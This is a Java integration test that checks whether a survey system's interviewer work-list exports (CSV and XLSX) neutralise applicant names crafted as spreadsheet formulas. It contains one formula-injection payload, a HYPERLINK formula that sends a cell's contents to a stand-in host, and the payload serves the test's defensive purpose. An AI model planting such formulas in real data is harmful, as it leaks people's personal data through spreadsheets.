package org.sipas.campaign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.sipas.identity.CurrentUser;
import org.sipas.identity.Role;
import org.sipas.identity.SignedIn;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;

/** An applicant named like a spreadsheet formula reaches the interviewer's work list as text. */
@SpringBootTest
@AutoConfigureMockMvc
class WorkListFormulaTest {

    private static final String HOSTILE = "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Bấm vào đây\")";

    @Autowired
    MockMvc mvc;
    @Autowired
    JdbcClient jdbc;

    @Test
    void anApplicantNamedLikeAFormulaComesOutNeutralisedInTheWorkList() throws Exception {
        CampaignFixture fixture = new CampaignFixture(jdbc, mvc, "CWF");
        String csv = "receipt_code,procedure_code,unit_code,applicant_kind,applicant_name,applicant_phone,received_at,"
                + "appointment_at,returned_at,receiving_official,processing_official,channel,status\n"
                + "CWF-1,CWF-T1,CWF-C3,Công dân,\"" + HOSTILE.replace("\"", "\"\"")
                + "\",0912 345 678,10/06/2025 08:00,,,,,Trực tiếp,Đã trả kết quả\n"
                + "CWF-2,CWF-T1,CWF-C3,Công dân,@Trần Thị Bình,0987 654 321,11/06/2025 08:00,,,,,Trực tiếp,Đã trả kết quả\n";
        mvc.perform(multipart("/dossiers/import").file(new MockMultipartFile("file", "mot-cua.csv", "text/csv",
                        csv.getBytes(StandardCharsets.UTF_8))).with(SignedIn.as(fixture.admin())).with(csrf()))
                .andExpect(status().isOk());
        String id = fixture.drawnJunePhoneCampaign(mvc, 2);
        CurrentUser interviewer = new CurrentUser("interviewer-cwf", Set.of(Role.INTERVIEWER), fixture.unitId("C3"));

        byte[] file = mvc.perform(get("/campaigns/{id}/work-list/PHONE.csv", id).with(SignedIn.as(interviewer)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().get()
                .parse(new InputStreamReader(new ByteArrayInputStream(file, 3, file.length - 3), StandardCharsets.UTF_8))
                .getRecords();
        assertThat(rows).extracting(r -> r.get("applicant_name"))
                .containsExactlyInAnyOrder("'" + HOSTILE, "'@Trần Thị Bình");
        // the sample member's id is a number and stays one
        assertThat(rows).allSatisfy(r -> assertThat(r.get("sample_member")).matches("\\d+"));

        byte[] xlsx = mvc.perform(get("/campaigns/{id}/work-list/PHONE.xlsx", id).with(SignedIn.as(interviewer)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = book.getSheetAt(0);
            for (int r = 1; r <= 2; r++) {
                // a string cell: a spreadsheet shows it, never evaluates it
                assertThat(sheet.getRow(r).getCell(6).getCellType()).isEqualTo(CellType.STRING);
                assertThat(sheet.getRow(r).getCell(0).getCellType()).isEqualTo(CellType.NUMERIC);
            }
        }
    }
}
